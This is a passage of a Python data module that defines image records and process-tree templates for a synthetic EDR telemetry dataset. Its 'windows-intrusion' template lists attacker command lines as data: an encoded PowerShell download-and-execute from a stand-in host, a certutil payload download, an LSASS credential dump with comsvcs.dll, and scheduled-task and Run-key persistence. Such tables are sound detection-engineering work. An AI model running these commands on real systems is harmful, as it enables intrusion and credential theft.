"""Static tables the EDR dataset is generated from: known images and modules, process-tree
templates, event pools. Nothing here depends on the seed.

A *template* is one process tree of exactly ``BLOCK`` processes (a logon session, a user's
desktop, an attacker's hands-on-keyboard burst, a web server...). Entry ``o`` names its image,
its parent entry (always an earlier one, so parents start first and outlive their children), who
runs it, a few command-line variants and the pools its events are drawn from.

A data table (about 1,360 lines of literal rows, exempt from the module size rule in
``tests/testing/test_shape.py``): images first, then the templates that name them.
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = [
    "BLOCK",
    "DLL_POOLS",
    "IMAGES",
    "TEMPLATES",
    "Image",
    "ProcSpec",
    "Template",
]

BLOCK = 16  # processes per template instance


@dataclass(frozen=True)
class Image:
    """A known executable or module."""

    key: str
    os: str  # windows | osx | linux
    path: str
    company: str = ""
    product: str = ""
    description: str = ""
    version: str = ""
    publisher: str | None = None  # None: unsigned
    size: int = 65_536
    is_executable: bool = True
    is_64bit: bool = True
    internal_name: str = ""
    original_filename: str = ""

    @property
    def name(self) -> str:
        sep = "\\" if self.os == "windows" else "/"
        return self.path.rsplit(sep, 1)[-1]


_MS = "Microsoft Corporation"
_WINOS = "Microsoft\u00ae Windows\u00ae Operating System"
_SYS32 = "c:\\windows\\system32\\"
_OFFICE = "c:\\program files\\microsoft office\\root\\office16\\"


def _win(
    key: str,
    path: str,
    desc: str,
    *,
    company: str = _MS,
    product: str = _WINOS,
    version: str = "10.0.19041.1",
    publisher: str | None = _MS,
    size: int = 65_536,
    exe: bool = True,
) -> Image:
    name = path.rsplit("\\", 1)[-1]
    return Image(
        key=key,
        os="windows",
        path=path,
        company=company,
        product=product,
        description=desc,
        version=version,
        publisher=publisher,
        size=size,
        is_executable=exe,
        internal_name=name.rsplit(".", 1)[0],
        original_filename=name.upper() if exe else name,
    )


def _nix(
    key: str,
    os: str,
    path: str,
    desc: str,
    *,
    company: str = "",
    product: str = "",
    publisher: str | None = None,
    size: int = 40_960,
    exe: bool = True,
) -> Image:
    return Image(
        key=key,
        os=os,
        path=path,
        company=company,
        product=product,
        description=desc,
        version="",
        publisher=publisher,
        size=size,
        is_executable=exe,
    )


_APPLE = "Software Signing"
_IMAGE_LIST: tuple[Image, ...] = (
    # --- Windows system ---
    _win("wininit", _SYS32 + "wininit.exe", "Windows Start-Up Application", size=57_344),
    _win("services", _SYS32 + "services.exe", "Services and Controller app", size=98_304),
    _win("lsass", _SYS32 + "lsass.exe", "Local Security Authority Process", size=59_392),
    _win("svchost", _SYS32 + "svchost.exe", "Host Process for Windows Services", size=51_712),
    _win("spoolsv", _SYS32 + "spoolsv.exe", "Spooler SubSystem App", size=98_304),
    _win("wmiprvse", _SYS32 + "wbem\\wmiprvse.exe", "WMI Provider Host", size=61_440),
    _win("taskhostw", _SYS32 + "taskhostw.exe", "Host Process for Windows Tasks", size=86_016),
    _win(
        "searchindexer",
        _SYS32 + "searchindexer.exe",
        "Microsoft Windows Search Indexer",
        size=110_592,
    ),
    _win("dllhost", _SYS32 + "dllhost.exe", "COM Surrogate", size=20_480),
    _win(
        "sppsvc",
        _SYS32 + "sppsvc.exe",
        "Microsoft Software Protection Platform Service",
        size=118_784,
    ),
    _win("wuauclt", _SYS32 + "wuauclt.exe", "Windows Update", size=61_440),
    _win("explorer", "c:\\windows\\explorer.exe", "Windows Explorer", size=126_976),
    _win("cmd", _SYS32 + "cmd.exe", "Windows Command Processor", size=90_112),
    _win("conhost", _SYS32 + "conhost.exe", "Console Window Host", size=73_728),
    _win(
        "powershell",
        _SYS32 + "windowspowershell\\v1.0\\powershell.exe",
        "Windows PowerShell",
        size=118_784,
    ),
    _win("net", _SYS32 + "net.exe", "Net Command", size=18_432),
    _win("net1", _SYS32 + "net1.exe", "Net Command", size=40_960),
    _win(
        "whoami", _SYS32 + "whoami.exe", "whoami - displays logged on user information", size=24_576
    ),
    _win("ipconfig", _SYS32 + "ipconfig.exe", "IP Configuration Utility", size=12_288),
    _win("certutil", _SYS32 + "certutil.exe", "CertUtil.exe", size=94_208),
    _win("rundll32", _SYS32 + "rundll32.exe", "Windows host process (Rundll32)", size=18_432),
    _win("schtasks", _SYS32 + "schtasks.exe", "Task Scheduler Configuration Tool", size=57_344),
    _win("reg", _SYS32 + "reg.exe", "Registry Console Tool", size=24_576),
    _win("tasklist", _SYS32 + "tasklist.exe", "Lists the current running tasks", size=28_672),
    _win("nslookup", _SYS32 + "nslookup.exe", "nslookup", size=28_672),
    _win("ping", _SYS32 + "ping.exe", "TCP/IP Ping Command", size=18_432),
    _win("mshta", _SYS32 + "mshta.exe", "Microsoft (R) HTML Application host", size=14_336),
    _win("notepad", _SYS32 + "notepad.exe", "Notepad", size=65_536),
    _win(
        "msmpeng",
        "c:\\programdata\\microsoft\\windows defender\\platform\\4.18.2302.7-0\\msmpeng.exe",
        "Antimalware Service Executable",
        product="Microsoft Malware Protection",
        version="4.18.2302.7",
        size=133_120,
    ),
    _win(
        "cb",
        "c:\\windows\\carbonblack\\cb.exe",
        "Carbon Black Sensor",
        company="VMware, Inc.",
        product="VMware Carbon Black EDR",
        version="7.3.0.18311",
        publisher="VMware, Inc.",
        size=126_976,
    ),
    _win(
        "w3wp",
        _SYS32 + "inetsrv\\w3wp.exe",
        "IIS Worker Process",
        product="Internet Information Services",
        size=32_768,
    ),
    _win(
        "sqlservr",
        "c:\\program files\\microsoft sql server\\mssql15.mssqlserver\\mssql\\binn\\sqlservr.exe",
        "SQL Server Windows NT - 64 Bit",
        product="Microsoft SQL Server",
        version="2019.150.2000.5",
        size=131_072,
    ),
    _win(
        "chrome",
        "c:\\program files\\google\\chrome\\application\\chrome.exe",
        "Google Chrome",
        company="Google LLC",
        product="Google Chrome",
        version="124.0.6367.91",
        publisher="Google LLC",
        size=131_072,
    ),
    _win(
        "msedge",
        "c:\\program files (x86)\\microsoft\\edge\\application\\msedge.exe",
        "Microsoft Edge",
        product="Microsoft Edge",
        version="124.0.2478.80",
        size=131_072,
    ),
    _win(
        "winword",
        _OFFICE + "winword.exe",
        "Microsoft Word",
        product="Microsoft Office",
        version="16.0.17531.20140",
        size=131_072,
    ),
    _win(
        "excel",
        _OFFICE + "excel.exe",
        "Microsoft Excel",
        product="Microsoft Office",
        version="16.0.17531.20140",
        size=131_072,
    ),
    _win(
        "outlook",
        _OFFICE + "outlook.exe",
        "Microsoft Outlook",
        product="Microsoft Office",
        version="16.0.17531.20140",
        size=131_072,
    ),
    _win(
        "teams",
        "c:\\users\\public\\appdata\\local\\microsoft\\teams\\current\\teams.exe",
        "Microsoft Teams",
        product="Microsoft Teams",
        version="1.7.00.6058",
        size=131_072,
    ),
    _win(
        "onedrive",
        "c:\\program files\\microsoft onedrive\\onedrive.exe",
        "Microsoft OneDrive",
        product="Microsoft OneDrive",
        version="24.070.0407.0003",
        size=98_304,
    ),
    _win(
        "psexesvc",
        "c:\\windows\\psexesvc.exe",
        "PsExec Service",
        company="Sysinternals",
        product="Sysinternals PsExec",
        version="2.43",
        publisher="Microsoft Corporation",
        size=65_536,
    ),
    # --- Windows modules ---
    _win("ntdll", _SYS32 + "ntdll.dll", "NT Layer DLL", size=126_976, exe=False),
    _win(
        "kernel32",
        _SYS32 + "kernel32.dll",
        "Windows NT BASE API Client DLL",
        size=110_592,
        exe=False,
    ),
    _win(
        "kernelbase",
        _SYS32 + "kernelbase.dll",
        "Windows NT BASE API Client DLL",
        size=118_784,
        exe=False,
    ),
    _win(
        "user32",
        _SYS32 + "user32.dll",
        "Multi-User Windows USER API Client DLL",
        size=98_304,
        exe=False,
    ),
    _win(
        "advapi32", _SYS32 + "advapi32.dll", "Advanced Windows 32 Base API", size=73_728, exe=False
    ),
    _win("msvcrt", _SYS32 + "msvcrt.dll", "Windows NT CRT DLL", size=69_632, exe=False),
    _win("ws2_32", _SYS32 + "ws2_32.dll", "Windows Socket 2.0 32-Bit DLL", size=49_152, exe=False),
    _win("crypt32", _SYS32 + "crypt32.dll", "Crypto API32", size=98_304, exe=False),
    _win(
        "wininet", _SYS32 + "wininet.dll", "Internet Extensions for Win32", size=118_784, exe=False
    ),
    _win("ole32", _SYS32 + "ole32.dll", "Microsoft OLE for Windows", size=94_208, exe=False),
    _win("combase", _SYS32 + "combase.dll", "Microsoft COM for Windows", size=110_592, exe=False),
    _win("shell32", _SYS32 + "shell32.dll", "Windows Shell Common Dll", size=126_976, exe=False),
    _win("rpcrt4", _SYS32 + "rpcrt4.dll", "Remote Procedure Call Runtime", size=86_016, exe=False),
    _win(
        "sechost",
        _SYS32 + "sechost.dll",
        "Host for SCM/SDDL/LSA Lookup APIs",
        size=57_344,
        exe=False,
    ),
    _win(
        "bcrypt",
        _SYS32 + "bcrypt.dll",
        "Windows Cryptographic Primitives Library",
        size=40_960,
        exe=False,
    ),
    _win("gdi32", _SYS32 + "gdi32.dll", "GDI Client DLL", size=36_864, exe=False),
    _win("amsi", _SYS32 + "amsi.dll", "Anti-Malware Scan Interface", size=28_672, exe=False),
    _win("winhttp", _SYS32 + "winhttp.dll", "Windows HTTP Services", size=86_016, exe=False),
    _win("dbghelp", _SYS32 + "dbghelp.dll", "Windows Image Helper", size=94_208, exe=False),
    _win(
        "clr",
        "c:\\windows\\microsoft.net\\framework64\\v4.0.30319\\clr.dll",
        "Microsoft .NET Runtime Common Language Runtime - WorkStation",
        product="Microsoft\u00ae .NET Framework",
        version="4.8.4645.0",
        size=131_072,
        exe=False,
    ),
    _win(
        "mscoree",
        _SYS32 + "mscoree.dll",
        "Microsoft .NET Runtime Execution Engine",
        product="Microsoft\u00ae .NET Framework",
        size=40_960,
        exe=False,
    ),
    _win("samlib", _SYS32 + "samlib.dll", "SAM Library DLL", size=32_768, exe=False),
    _win("netapi32", _SYS32 + "netapi32.dll", "Net Win32 API DLL", size=32_768, exe=False),
    # --- macOS ---
    _nix("launchd", "osx", "/sbin/launchd", "launchd", publisher=_APPLE, company="Apple Inc."),
    _nix(
        "loginwindow",
        "osx",
        "/system/library/coreservices/loginwindow.app/contents/macos/loginwindow",
        "loginwindow",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "finder",
        "osx",
        "/system/library/coreservices/finder.app/contents/macos/finder",
        "Finder",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "dock",
        "osx",
        "/system/library/coreservices/dock.app/contents/macos/dock",
        "Dock",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix("zsh", "osx", "/bin/zsh", "zsh", publisher=_APPLE, company="Apple Inc."),
    _nix("mac_bash", "osx", "/bin/bash", "bash", publisher=_APPLE, company="Apple Inc."),
    _nix("mac_curl", "osx", "/usr/bin/curl", "curl", publisher=_APPLE, company="Apple Inc."),
    _nix("mac_ssh", "osx", "/usr/bin/ssh", "ssh", publisher=_APPLE, company="Apple Inc."),
    _nix(
        "mac_python", "osx", "/usr/bin/python3", "python3", publisher=_APPLE, company="Apple Inc."
    ),
    _nix("mac_git", "osx", "/usr/bin/git", "git", publisher=_APPLE, company="Apple Inc."),
    _nix(
        "osascript",
        "osx",
        "/usr/bin/osascript",
        "osascript",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "mdworker",
        "osx",
        "/system/library/frameworks/coreservices.framework/frameworks/"
        "metadata.framework/versions/a/support/mdworker_shared",
        "mdworker_shared",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "softwareupdated",
        "osx",
        "/system/library/privateframeworks/softwareupdate.framework/resources/softwareupdated",
        "softwareupdated",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "mac_chrome",
        "osx",
        "/applications/google chrome.app/contents/macos/google chrome",
        "Google Chrome",
        publisher="Developer ID Application: Google LLC (EQHXZ8M8AV)",
        company="Google LLC",
        product="Google Chrome",
        size=98_304,
    ),
    _nix(
        "mac_chrome_helper",
        "osx",
        "/applications/google chrome.app/contents/frameworks/"
        "google chrome framework.framework/helpers/google chrome helper.app/contents/macos/"
        "google chrome helper",
        "Google Chrome Helper",
        publisher="Developer ID Application: Google LLC (EQHXZ8M8AV)",
        company="Google LLC",
        product="Google Chrome",
    ),
    _nix(
        "safari",
        "osx",
        "/applications/safari.app/contents/macos/safari",
        "Safari",
        publisher=_APPLE,
        company="Apple Inc.",
    ),
    _nix(
        "cbosx",
        "osx",
        "/applications/vmware carbon black edr.app/contents/macos/cbosxsensorservice",
        "Carbon Black EDR Sensor",
        publisher="Developer ID Application: VMware, Inc. (EG7KH642X6)",
        company="VMware, Inc.",
        product="VMware Carbon Black EDR",
    ),
    _nix(
        "libsystem", "osx", "/usr/lib/libsystem.b.dylib", "libSystem", publisher=_APPLE, exe=False
    ),
    _nix("libobjc", "osx", "/usr/lib/libobjc.a.dylib", "libobjc", publisher=_APPLE, exe=False),
    _nix(
        "corefoundation",
        "osx",
        "/system/library/frameworks/corefoundation.framework/versions/a/corefoundation",
        "CoreFoundation",
        publisher=_APPLE,
        exe=False,
    ),
    _nix(
        "security",
        "osx",
        "/system/library/frameworks/security.framework/versions/a/security",
        "Security",
        publisher=_APPLE,
        exe=False,
    ),
    _nix("libcurl_mac", "osx", "/usr/lib/libcurl.4.dylib", "libcurl", publisher=_APPLE, exe=False),
    # --- Linux ---
    _nix("systemd", "linux", "/usr/lib/systemd/systemd", "systemd"),
    _nix("sshd", "linux", "/usr/sbin/sshd", "OpenSSH daemon"),
    _nix("bash", "linux", "/usr/bin/bash", "GNU bash"),
    _nix("sh", "linux", "/usr/bin/sh", "POSIX shell"),
    _nix("sudo", "linux", "/usr/bin/sudo", "sudo"),
    _nix("crond", "linux", "/usr/sbin/crond", "cron daemon"),
    _nix("python3", "linux", "/usr/bin/python3.9", "Python 3"),
    _nix("java", "linux", "/usr/lib/jvm/java-17-openjdk/bin/java", "OpenJDK"),
    _nix("nginx", "linux", "/usr/sbin/nginx", "nginx"),
    _nix("postgres", "linux", "/usr/pgsql-15/bin/postgres", "PostgreSQL server"),
    _nix("curl", "linux", "/usr/bin/curl", "curl"),
    _nix("wget", "linux", "/usr/bin/wget", "wget"),
    _nix("dockerd", "linux", "/usr/bin/dockerd", "Docker daemon"),
    _nix("containerd", "linux", "/usr/bin/containerd", "containerd"),
    _nix(
        "cbdaemon",
        "linux",
        "/opt/carbonblack/response/bin/cbdaemon",
        "Carbon Black daemon",
        company="VMware, Inc.",
        product="VMware Carbon Black EDR",
    ),
    _nix("yum", "linux", "/usr/bin/yum", "yum"),
    _nix("tar", "linux", "/usr/bin/tar", "GNU tar"),
    _nix("ps", "linux", "/usr/bin/ps", "procps ps"),
    _nix("id", "linux", "/usr/bin/id", "coreutils id"),
    _nix("libc", "linux", "/usr/lib64/libc.so.6", "GNU C library", exe=False),
    _nix("ldlinux", "linux", "/usr/lib64/ld-linux-x86-64.so.2", "dynamic linker", exe=False),
    _nix("libpthread", "linux", "/usr/lib64/libpthread.so.0", "POSIX threads", exe=False),
    _nix("libssl", "linux", "/usr/lib64/libssl.so.1.1", "OpenSSL", exe=False),
    _nix("libcrypto", "linux", "/usr/lib64/libcrypto.so.1.1", "OpenSSL crypto", exe=False),
    _nix("libz", "linux", "/usr/lib64/libz.so.1", "zlib", exe=False),
)

IMAGES: dict[str, Image] = {image.key: image for image in _IMAGE_LIST}
assert len(IMAGES) == len(_IMAGE_LIST), "duplicate image keys"

DLL_POOLS: dict[str, tuple[str, ...]] = {
    "win_base": ("ntdll", "kernel32", "kernelbase", "msvcrt", "advapi32", "sechost", "rpcrt4"),
    "win_gui": ("user32", "gdi32", "ole32", "combase", "shell32"),
    "win_net": ("ws2_32", "wininet", "winhttp", "crypt32", "bcrypt"),
    "win_dotnet": ("mscoree", "clr", "amsi"),
    "win_cred": ("samlib", "netapi32", "dbghelp"),
    "osx_base": ("libsystem", "libobjc", "corefoundation"),
    "osx_net": ("security", "libcurl_mac"),
    "linux_base": ("ldlinux", "libc", "libpthread"),
    "linux_net": ("libssl", "libcrypto", "libz"),
}


@dataclass(frozen=True)
class ProcSpec:
    """One entry of a template: what that process is and does."""

    image: str  # key into IMAGES, or "@app" for an endpoint's installed third-party app
    parent: int | None  # entry index of the parent within the template (None: tree root)
    user: str = "system"  # "system" | "user" | "service" | "network"
    cmdlines: tuple[str, ...] = ("{path}",)
    modules: tuple[str, ...] = ("win_base",)
    filemods: tuple[str, ...] = ()
    regmods: tuple[str, ...] = ()
    netconns: tuple[tuple[str, str, int], ...] = ()  # (domain, ipv4, port)
    crossproc: tuple[int, ...] = ()  # template entries this process opens
    repeat: int = 1  # how many times each pool event recurs per segment
    segments: int = 1  # number of event segments of this process
    suppressed_children: int = 0  # "empty" children tracked only as childproc events


@dataclass(frozen=True)
class Template:
    name: str
    os: str  # windows | osx | linux
    roles: tuple[str, ...]  # host roles it runs on: workstation | server | domain_controller
    weight: int
    entries: tuple[ProcSpec, ...] = field(default_factory=tuple)


_BASE = ("win_base",)
_GUI = ("win_base", "win_gui")
_NET = ("win_base", "win_net")
_GUINET = ("win_base", "win_gui", "win_net")
_TEMP = "c:\\windows\\temp\\"
_DOCS = "c:\\users\\{user}\\documents\\"
_DL = "c:\\users\\{user}\\downloads\\"
_APPDATA = "c:\\users\\{user}\\appdata\\local\\"
_HKLM = "\\registry\\machine\\software\\"
_HKU = "\\registry\\user\\{sid}\\software\\"

_W_SESSION = Template(
    "windows-boot",
    "windows",
    ("workstation", "server", "domain_controller"),
    3,
    (
        ProcSpec("wininit", None, segments=3, modules=_GUI),
        ProcSpec(
            "services",
            0,
            segments=2,
            modules=_BASE,
            regmods=(
                _HKLM.replace("software\\", "system\\currentcontrolset\\services\\")
                + "bits\\start",
            ),
        ),
        ProcSpec(
            "lsass",
            0,
            segments=2,
            modules=("win_base", "win_cred"),
            filemods=("c:\\windows\\system32\\config\\security.log",),
        ),
        ProcSpec(
            "svchost",
            1,
            cmdlines=("c:\\windows\\system32\\svchost.exe -k DcomLaunch -p",),
            modules=_BASE,
            suppressed_children=2,
        ),
        ProcSpec(
            "svchost",
            1,
            user="network",
            cmdlines=("c:\\windows\\system32\\svchost.exe -k netsvcs -p",),
            modules=_NET,
            netconns=(
                ("settings-win.data.microsoft.com", "20.42.65.92", 443),
                ("ctldl.windowsupdate.com", "93.184.221.240", 80),
            ),
            repeat=2,
        ),
        ProcSpec(
            "spoolsv",
            1,
            modules=_BASE,
            filemods=("c:\\windows\\system32\\spool\\printers\\fp00002.shd",),
        ),
        ProcSpec(
            "cb",
            1,
            modules=_NET,
            cmdlines=("c:\\windows\\carbonblack\\cb.exe",),
            filemods=(
                "c:\\windows\\carbonblack\\sensor.log",
                "c:\\windows\\carbonblack\\eventlogs\\events.tmp",
            ),
            netconns=(("cbserver.acme.local", "10.0.0.10", 443),),
            repeat=3,
        ),
        ProcSpec(
            "msmpeng",
            1,
            modules=_NET,
            crossproc=(2,),
            filemods=("c:\\programdata\\microsoft\\windows defender\\scans\\mpcache.bin",),
            netconns=(("wdcp.microsoft.com", "20.189.173.1", 443),),
        ),
        ProcSpec(
            "svchost",
            1,
            user="service",
            cmdlines=("c:\\windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted",),
            modules=_BASE,
        ),
        ProcSpec(
            "wmiprvse",
            3,
            user="network",
            cmdlines=("c:\\windows\\system32\\wbem\\wmiprvse.exe -Embedding",),
            modules=("win_base", "win_dotnet"),
        ),
        ProcSpec(
            "taskhostw",
            4,
            user="user",
            cmdlines=(
                "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
                "taskhostw.exe KEYROAMING",
            ),
            modules=_GUI,
        ),
        ProcSpec(
            "searchindexer",
            1,
            cmdlines=("c:\\windows\\system32\\searchindexer.exe /Embedding",),
            filemods=(
                "c:\\programdata\\microsoft\\search\\data\\applications\\windows\\windows.edb",
            ),
            repeat=2,
        ),
        ProcSpec(
            "dllhost",
            3,
            cmdlines=(
                "c:\\windows\\system32\\dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
                "c:\\windows\\system32\\dllhost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}",
            ),
            modules=_GUI,
        ),
        ProcSpec(
            "wuauclt",
            4,
            cmdlines=("c:\\windows\\system32\\wuauclt.exe /RunHandlerComServer",),
            modules=_NET,
            netconns=(("fe2cr.update.microsoft.com", "20.72.235.82", 443),),
            filemods=(_TEMP + "wuauclt_{n}.log",),
        ),
        ProcSpec(
            "sppsvc",
            1,
            modules=_BASE,
            regmods=(
                _HKLM + "microsoft\\windows nt\\currentversion\\softwareprotectionplatform"
                "\\servicesessionid",
            ),
        ),
        ProcSpec(
            "svchost",
            1,
            user="service",
            cmdlines=("c:\\windows\\system32\\svchost.exe -k LocalService -p -s EventLog",),
            modules=_BASE,
            filemods=(
                "c:\\windows\\system32\\winevt\\logs\\security.evtx",
                "c:\\windows\\system32\\winevt\\logs\\system.evtx",
            ),
            repeat=3,
        ),
    ),
)

_W_DESKTOP = Template(
    "windows-desktop",
    "windows",
    ("workstation",),
    6,
    (
        ProcSpec(
            "explorer",
            None,
            user="user",
            segments=3,
            modules=_GUINET,
            regmods=(
                _HKU + "microsoft\\windows\\currentversion\\explorer\\recentdocs",
                _HKU + "microsoft\\windows\\currentversion\\explorer\\userassist",
            ),
            filemods=(_APPDATA + "microsoft\\windows\\explorer\\iconcache_48.db",),
            repeat=2,
        ),
        ProcSpec(
            "chrome",
            0,
            user="user",
            segments=2,
            modules=_GUINET,
            netconns=(
                ("www.google.com", "142.250.72.196", 443),
                ("clients2.google.com", "142.250.72.206", 443),
                ("github.com", "140.82.112.3", 443),
            ),
            filemods=(
                _APPDATA + "google\\chrome\\user data\\default\\history",
                _APPDATA + "google\\chrome\\user data\\default\\cookies",
                _DL + "report_{n}.pdf",
            ),
            repeat=2,
        ),
        ProcSpec(
            "chrome",
            1,
            user="user",
            cmdlines=(
                '"c:\\program files\\google\\chrome\\application\\chrome.exe" --type=renderer '
                "--lang=en-US --renderer-client-id={n}",
            ),
            modules=_GUI,
        ),
        ProcSpec(
            "chrome",
            1,
            user="user",
            cmdlines=(
                '"c:\\program files\\google\\chrome\\application\\chrome.exe" --type=gpu-process '
                "--gpu-preferences=UAAAAAAAAADgAAAIAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAA",
            ),
            modules=_GUI,
        ),
        ProcSpec(
            "chrome",
            1,
            user="user",
            cmdlines=(
                '"c:\\program files\\google\\chrome\\application\\chrome.exe" --type=utility '
                "--utility-sub-type=network.mojom.NetworkService --lang=en-US",
            ),
            modules=_NET,
            netconns=(("update.googleapis.com", "142.250.72.163", 443),),
        ),
        ProcSpec(
            "outlook",
            0,
            user="user",
            modules=_GUINET,
            netconns=(("outlook.office365.com", "52.96.165.18", 443),),
            filemods=(
                _APPDATA + "microsoft\\outlook\\{user}@acme.example.ost",
                _APPDATA + "microsoft\\windows\\inetcache\\content.outlook\\invoice_{n}.docm",
            ),
            repeat=2,
        ),
        ProcSpec(
            "winword",
            5,
            user="user",
            cmdlines=(
                '"c:\\program files\\microsoft office\\root\\office16\\winword.exe" /n '
                '"c:\\users\\{user}\\documents\\quarterly report {n}.docx"',
                '"c:\\program files\\microsoft office\\root\\office16\\winword.exe" /n '
                '"c:\\users\\{user}\\appdata\\local\\microsoft\\windows\\inetcache\\'
                'content.outlook\\invoice_{n}.docm"',
            ),
            modules=("win_base", "win_gui", "win_dotnet"),
            filemods=(_DOCS + "quarterly report {n}.docx", _DOCS + "~$arterly report {n}.docx"),
        ),
        ProcSpec(
            "teams",
            0,
            user="user",
            modules=_GUINET,
            netconns=(("teams.microsoft.com", "52.113.194.132", 443),),
        ),
        ProcSpec(
            "onedrive",
            0,
            user="user",
            cmdlines=('"c:\\program files\\microsoft onedrive\\onedrive.exe" /background',),
            modules=_NET,
            netconns=(("skyapi.live.net", "13.107.42.13", 443),),
            filemods=("c:\\users\\{user}\\onedrive - acme\\notes {n}.txt",),
        ),
        ProcSpec(
            "notepad",
            0,
            user="user",
            cmdlines=(
                '"c:\\windows\\system32\\notepad.exe" c:\\users\\{user}\\documents\\todo.txt',
                '"c:\\windows\\system32\\notepad.exe"',
            ),
            modules=_GUI,
            filemods=(_DOCS + "todo.txt",),
        ),
        ProcSpec(
            "cmd",
            0,
            user="user",
            cmdlines=('"c:\\windows\\system32\\cmd.exe"',),
            modules=_BASE,
            suppressed_children=1,
        ),
        ProcSpec(
            "conhost",
            10,
            user="user",
            cmdlines=("\\??\\c:\\windows\\system32\\conhost.exe 0xffffffff -ForceV1",),
            modules=_GUI,
        ),
        ProcSpec(
            "ipconfig",
            10,
            user="user",
            cmdlines=("ipconfig /all", "ipconfig /flushdns"),
            modules=_NET,
        ),
        ProcSpec(
            "excel",
            5,
            user="user",
            cmdlines=(
                '"c:\\program files\\microsoft office\\root\\office16\\excel.exe" '
                '"c:\\users\\{user}\\documents\\budget {n}.xlsx"',
            ),
            modules=_GUI,
            filemods=(_DOCS + "budget {n}.xlsx",),
        ),
        ProcSpec(
            "msedge",
            0,
            user="user",
            modules=_GUINET,
            netconns=(("www.bing.com", "13.107.21.200", 443),),
        ),
        ProcSpec(
            "@app",
            0,
            user="user",
            modules=_GUINET,
            netconns=(("downloads.vendor.example", "198.51.100.23", 443),),
            filemods=(_APPDATA + "{app}\\settings.json", _TEMP + "{app}_{n}.tmp"),
            regmods=(_HKU + "{app}\\lastrun",),
        ),
    ),
)

_ENC = (
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
    "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcA"
    "LwBhACcAKQA="
)
_W_ATTACK = Template(
    "windows-intrusion",
    "windows",
    ("workstation", "server"),
    1,
    (
        ProcSpec("explorer", None, user="user", segments=2, modules=_GUINET),
        ProcSpec(
            "cmd", 0, user="user", cmdlines=('"c:\\windows\\system32\\cmd.exe"',), modules=_BASE
        ),
        ProcSpec(
            "conhost",
            1,
            user="user",
            cmdlines=("\\??\\c:\\windows\\system32\\conhost.exe 0xffffffff -ForceV1",),
            modules=_GUI,
        ),
        ProcSpec(
            "net",
            1,
            user="user",
            cmdlines=(
                "net use z: \\\\fileserver\\finance /persistent:no",
                "net use y: \\\\test\\blah",
                'net group "domain admins" /domain',
            ),
            modules=_NET,
        ),
        ProcSpec(
            "net1",
            3,
            user="user",
            cmdlines=(
                "c:\\windows\\system32\\net1 use z: \\\\fileserver\\finance /persistent:no",
                'c:\\windows\\system32\\net1 group "domain admins" /domain',
            ),
            modules=_NET,
        ),
        ProcSpec("whoami", 1, user="user", cmdlines=("whoami /all", "whoami /priv"), modules=_BASE),
        ProcSpec(
            "powershell",
            1,
            user="user",
            cmdlines=(
                "powershell.exe -nop -w hidden -enc " + _ENC,
                "powershell.exe -ExecutionPolicy Bypass -File c:\\users\\public\\update.ps1",
            ),
            modules=("win_base", "win_net", "win_dotnet"),
            netconns=(
                ("cdn.badcdn.example", "198.51.100.7", 80),
                ("pastebin.example", "203.0.113.50", 443),
            ),
            filemods=("c:\\users\\public\\update.ps1", _TEMP + "svc{n}.dat"),
            repeat=2,
        ),
        ProcSpec(
            "certutil",
            6,
            user="user",
            cmdlines=(
                "certutil.exe -urlcache -split -f http://198.51.100.7/a c:\\users\\public\\svchost.exe",
            ),
            modules=_NET,
            netconns=(("", "198.51.100.7", 80),),
            filemods=("c:\\users\\public\\svchost.exe",),
        ),
        ProcSpec(
            "rundll32",
            6,
            user="user",
            cmdlines=(
                "rundll32.exe c:\\users\\public\\payload.dll,DllRegisterServer",
                "rundll32.exe c:\\windows\\system32\\comsvcs.dll MiniDump 624 "
                "c:\\windows\\temp\\lsass.dmp full",
            ),
            modules=("win_base", "win_cred"),
            crossproc=(0,),
            filemods=(_TEMP + "lsass.dmp",),
        ),
        ProcSpec(
            "schtasks",
            6,
            user="user",
            cmdlines=(
                'schtasks /create /sc minute /mo 30 /tn "OneDrive Standalone Update" '
                "/tr c:\\users\\public\\svchost.exe /f",
            ),
            modules=_BASE,
            regmods=(
                _HKLM + "microsoft\\windows nt\\currentversion\\schedule\\taskcache\\tree\\"
                "onedrive standalone update\\id",
            ),
        ),
        ProcSpec(
            "reg",
            1,
            user="user",
            cmdlines=(
                "reg query hklm\\software\\microsoft\\windows\\currentversion\\run",
                "reg add hkcu\\software\\microsoft\\windows\\currentversion\\run /v updater /t "
                "REG_SZ /d c:\\users\\public\\svchost.exe /f",
            ),
            modules=_BASE,
            regmods=(_HKU + "microsoft\\windows\\currentversion\\run\\updater",),
        ),
        ProcSpec(
            "tasklist", 1, user="user", cmdlines=("tasklist /v", "tasklist /svc"), modules=_BASE
        ),
        ProcSpec(
            "nslookup",
            1,
            user="user",
            cmdlines=("nslookup dc01.acme.local",),
            modules=_NET,
            netconns=(("dc01.acme.local", "10.0.0.2", 53),),
        ),
        ProcSpec("ping", 1, user="user", cmdlines=("ping -n 1 10.0.0.2",), modules=_NET),
        ProcSpec(
            "@malware",
            7,
            user="user",
            modules=("win_base", "win_net", "win_cred"),
            netconns=(("c2.badcdn.example", "198.51.100.7", 8443),),
            filemods=(_TEMP + "~tmp{n}.tmp",),
            regmods=(_HKU + "microsoft\\windows\\currentversion\\run\\updater",),
            crossproc=(0,),
            repeat=3,
        ),
        ProcSpec(
            "mshta",
            0,
            user="user",
            cmdlines=(
                'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run '
                '""powershell -nop"", 0:close")',
            ),
            modules=_NET,
            netconns=(("", "203.0.113.50", 443),),
        ),
    ),
)

_W_SERVER = Template(
    "windows-web-server",
